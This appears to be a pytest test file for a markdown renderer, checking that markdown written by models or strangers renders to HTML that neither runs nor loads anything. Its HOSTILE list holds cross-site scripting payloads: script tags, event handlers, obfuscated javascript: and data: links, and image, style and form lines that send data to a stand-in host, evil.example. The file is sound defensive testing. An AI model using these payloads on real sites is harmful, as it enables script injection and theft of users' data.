"""Markdown of models and strangers: it looks as they meant, and does nothing."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from gateways.web.render.markdown import code, markdown

_LOADS = {
    "img",
    "script",
    "style",
    "link",
    "iframe",
    "object",
    "embed",
    "video",
    "audio",
    "svg",
    "form",
    "base",
}
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](JaVa\tscript:alert(1))",
    "[a](java&#x73;cript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x)",
    "![x](https://evil.example/?d=SECRET)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "<svg/onload=alert(1)>",
    "<a href=' javascript:1'>x</a>",
    "<details ontoggle=alert(1) open>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>@import 'https://evil.example'</style>",
    "[x](https://a.example 'a\" onmouseover=alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "\x1b[31mred\x1b[0m<script>",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "| <img src=x> | b |\n|:-:|---|\n| `<script>` | ![i](//evil.example/i.png) |",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form action=https://evil.example><input autofocus onfocus=alert(1)>",
]


class Looked(HTMLParser):
    """The tags and attributes that are in a piece of HTML, as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_model_writes_becomes_nothing_that_runs_or_loads(text: str) -> None:
    found = Looked(str(markdown(text)))
    assert not _LOADS & {*found.tags}
    assert {name for name, _ in found.attributes} <= {"href", "class", "rel", "target", "start", "tabindex"}
    for name, value in found.attributes:
        assert name != "href" or value.startswith(("https://", "http://", "mailto:")), value


def test_an_image_is_a_link_that_nobody_follows_unasked() -> None:
    shown = str(markdown("![a cat](https://cats.example/1.png)"))
    assert '<a class="image" href="https://cats.example/1.png"' in shown and ">a cat</a>" in shown
    assert 'rel="noopener noreferrer nofollow"' in shown


def test_text_that_turns_its_direction_or_hides_reads_as_it_is_written() -> None:
    assert str(markdown("a\u202eb\u2066c\u200bd\u2028e")).strip() == "<p>abcd\ne</p>"


def test_headings_stand_below_those_of_the_page() -> None:
    assert str(markdown("# One\n\n###### Six")).split() == ["<h3>One</h3>", "<h6>Six</h6>"]


def test_tables_keep_their_sides_without_a_style_of_their_own() -> None:
    shown = str(markdown("| a | b |\n|--:|---|\n| 1 | 2 |"))
    assert '<td class="right">1</td>' in shown and "style" not in shown


def test_code_is_coloured_where_its_language_is_known() -> None:
    assert '<span class="t-k">def</span>' in str(markdown("```python\ndef f(): ...\n```"))
    assert str(markdown("```nonsense\n<b>\n```")).count("&lt;b&gt;") == 1
    assert str(code("x < 1", "")) == "x &lt; 1"


def test_a_text_of_any_length_is_shown() -> None:
    assert len(markdown("word " * 250_000)) > 1_000_000
    assert len(markdown("**a" * 20_000)) >= 20_000
    assert len(markdown("[" * 20_000)) >= 20_000
    assert len(markdown("> " * 5_000)) > 0
